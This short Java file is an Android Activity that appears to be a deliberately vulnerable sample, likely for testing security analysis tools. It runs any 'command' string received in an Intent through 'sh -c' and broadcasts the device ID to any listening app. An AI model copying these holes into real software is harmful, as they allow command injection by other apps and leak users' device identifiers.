package app;

import android.app.Activity;
import android.content.Intent;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;

/** What other apps send is run, and what is sent to whoever wants it leaves. */
public class Main extends Activity {
    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        String command = getIntent().getStringExtra("command");
        try {
            Runtime.getRuntime().exec(new String[] {"sh", "-c", command});
        } catch (IOException e) {
            finish();
        }
        Intent intent = new Intent("app.SHARE");
        intent.putExtra("id", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        sendBroadcast(intent);
    }
}
